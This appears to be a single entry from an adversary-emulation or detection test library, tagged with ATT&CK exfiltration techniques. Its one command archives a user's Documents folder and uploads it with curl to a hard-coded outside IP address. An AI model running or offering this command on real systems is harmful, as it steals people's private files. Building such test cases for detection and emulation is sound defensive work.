# title: A file of secrets is sent to a server
# technique: T1041 T1048.003
# needs: curl
# short: yes

tar czf /tmp/d.tgz /home/ann/Documents 2>/dev/null; curl -s -F file=@/tmp/d.tgz http://192.88.99.7/up
